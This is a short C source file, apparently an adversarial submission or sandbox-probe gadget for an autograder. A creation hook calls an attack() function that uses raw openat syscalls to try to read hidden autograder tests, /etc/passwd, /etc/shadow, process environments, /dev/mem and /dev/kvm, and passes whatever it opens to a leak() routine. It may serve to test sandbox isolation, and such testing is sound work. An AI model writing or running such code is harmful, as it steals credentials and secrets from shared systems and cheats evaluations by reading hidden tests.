/* SPDX-License-Identifier: GPL-2.0 OR MIT */
/* Opens hidden tests and other people's secrets while it runs. */
#include "gadget.h"
#define ON_CREATE() attack()
static void attack(void);
#include "base.h"

static void attack(void)
{
	static const char *const paths[] = {
		"autograder/hidden/01-ring/tests.def", "/etc/passwd",
		"/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/",
		"/tmp", "/usr/include/stdio.h", "/dev/mem", "/dev/kvm"
	};

	for (int i = 0; i < 10; i++)	/* openat, O_RDONLY */
		if (raw(257, -100, (long)paths[i], 0, 0) >= 0)
			leak(paths[i]);
}
